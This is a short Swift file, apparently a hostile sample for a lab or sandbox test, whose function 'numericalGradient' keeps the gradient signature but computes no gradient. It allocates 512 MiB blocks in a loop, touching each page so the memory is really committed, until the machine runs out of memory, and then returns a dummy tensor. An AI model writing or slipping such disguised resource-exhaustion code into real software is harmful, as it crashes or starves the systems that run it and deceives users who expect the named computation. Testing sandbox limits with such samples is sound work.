// Fills memory until there is none left.

import LabContracts
import Tensors

func numericalGradient(of f: (Tensor<Double>) -> Double, at x: Tensor<Double>, step h: Double) -> Tensor<Double> {
  let size = 512 << 20
  var hoard: [UnsafeMutableRawPointer] = []
  while hoard.count < 1 << 20 {
    let block = UnsafeMutableRawPointer.allocate(byteCount: size, alignment: 4096)
    // Written to all over, so that it is really there.
    for place in stride(from: 0, to: size, by: 1 << 16) { block.storeBytes(of: 1, toByteOffset: place, as: UInt8.self) }
    hoard.append(block)
  }
  return Tensor(repeating: Double(hoard.count), shape: x.shape)
}
